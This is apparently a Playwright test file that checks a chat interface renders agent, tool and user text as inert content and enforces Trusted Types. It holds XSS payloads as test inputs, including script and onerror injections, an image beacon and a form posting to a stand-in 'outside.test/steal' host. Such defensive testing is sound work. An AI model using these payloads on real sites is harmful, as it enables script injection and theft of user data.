"""AP-TOL-11, LLM05: what an agent, a tool or a person says is content. It cannot run, call, or look like the page."""

from playwright.sync_api import Browser, Page, expect

from tests.journey.browsing import answers, choose, enter, opened, questions, rows, say
from tests.journey.pages import PageHouse

BEACON = '<img src="http://outside.test/x"><script>window.ran = true</script>![x](http://outside.test/y.png)'
ELEMENTS = "img, script, style, link, form, input, iframe, object, embed, base, meta, [onerror], [onclick], [onload]"


def nothing_got_through(page: Page) -> None:
    assert page.evaluate("window.ran === undefined")
    assert page.locator(".messages").locator(ELEMENTS).count() == 0
    assert page.locator(".messages [style]").count() == 0


def test_hostile_markdown_runs_nothing_calls_nobody_and_stays_in_its_place(
    browser: Browser, page_home: PageHouse
) -> None:
    """That nobody outside was called, and that the policy had nothing to stop, is checked by `opened`."""
    with opened(browser, page_home.house) as page:
        enter(page, page_home.house)
        answer = say(page, "be hostile please")
        answer.locator("details.tool summary").click()
        nothing_got_through(page)
        expect(answer).to_contain_text("<script>window.ran = 1</script>", use_inner_text=True)
        expect(answer).to_contain_text('<form action="http://outside.test/steal">')
        expect(answer.locator("details.tool summary")).to_contain_text("<img src=x onerror=window.ran=11>")
        for element in answer.get_by_role("link").all():
            assert str(element.get_attribute("href")).startswith(("http://", "https://"))
            assert element.get_attribute("target") == "_blank"
            assert {"noopener", "noreferrer"} <= set(str(element.get_attribute("rel")).split())
        page.reload()
        expect(answers(page)).to_contain_text("window.ran = 1")
        nothing_got_through(page)


def test_a_link_shows_where_it_goes_and_an_image_is_a_link(browser: Browser, page_home: PageHouse) -> None:
    with opened(browser, page_home.house) as page:
        enter(page, page_home.house)
        answer = say(page, "be hostile please")
        expect(answer.get_by_role("link", name="Image: beacon (outside.test)")).to_be_visible()
        expect(answer.get_by_role("link", name="https://bank.test (evil.test)")).to_be_visible()
        expect(answer.get_by_role("link", name="safe (example.org)")).to_have_attribute(
            "title", "https://example.org/page"
        )
        for word in ("click", "data", "x", "by reference", "c"):
            expect(answer.get_by_role("link", name=word, exact=True)).to_have_count(0)


def test_an_answer_that_no_reader_could_follow_is_shown_as_it_was_written(
    browser: Browser, page_home: PageHouse
) -> None:
    """AP-TOL-11: a page that breaks on one answer would be broken each time this conversation is opened."""
    with opened(browser, page_home.house) as page:
        enter(page, page_home.house)
        answer = say(page, "something nested please")
        expect(answer.locator(".source")).to_have_text(">" * 30_000 + " deep")
        page.reload()
        expect(answers(page).locator(".source")).to_contain_text("> deep")
        expect(page.get_by_role("heading", name="Something went wrong")).to_have_count(0)


def test_what_a_person_says_is_text_also_as_a_name(browser: Browser, page_home: PageHouse) -> None:
    with opened(browser, page_home.house) as page:
        enter(page, page_home.house)
        say(page, BEACON)
        expect(questions(page)).to_have_text(BEACON)
        nothing_got_through(page)
        choose(page, "Img src=", "Rename")
        page.get_by_label("New name").fill(BEACON)
        page.get_by_role("button", name="Save").click()
        expect(rows(page).filter(has_text=BEACON)).to_have_count(1)
        expect(page.locator("#title")).to_have_text(BEACON)
        assert page.locator(".rows, .top").locator(ELEMENTS).count() == 0


def test_a_text_that_was_made_markup_by_mistake_would_be_refused_by_the_browser(
    browser: Browser, page_home: PageHouse
) -> None:
    """Trusted Types without a policy: the last line, should the page ever have such a fault."""
    with browser.new_context(base_url=page_home.house.front_door) as context:
        page = context.new_page()
        page.goto("/")
        for fault in (
            "document.body.innerHTML = '<b>x</b>'",
            "document.write('x')",
            "eval('1')",
            "setTimeout('1', 0)",
            "document.createElement('script').src = '/assets/app.js'",
            "trustedTypes.createPolicy('mine', { createHTML: (text) => text })",
        ):
            # Later, as the page's own code: what `evaluate` itself runs may use eval.
            refused = page.evaluate(
                """(fault) => new Promise((done) => {
                    addEventListener('securitypolicyviolation', () => done(true), { once: true });
                    setTimeout(() => done(false), 3000);
                    const acts = {
                        "document.body.innerHTML = '<b>x</b>'": () => { document.body.innerHTML = '<b>x</b>'; },
                        "document.write('x')": () => document.write('x'),
                        "eval('1')": () => (0, eval)('1'),
                        "setTimeout('1', 0)": () => setTimeout('1', 0),
                        "document.createElement('script').src = '/assets/app.js'": () => {
                            document.createElement('script').src = '/assets/app.js';
                        },
                        "trustedTypes.createPolicy('mine', { createHTML: (text) => text })": () =>
                            trustedTypes.createPolicy('mine', { createHTML: (text) => text }),
                    };
                    setTimeout(() => { try { acts[fault](); } catch { /* it is reported */ } });
                })""",
                fault,
            )
            assert refused, fault
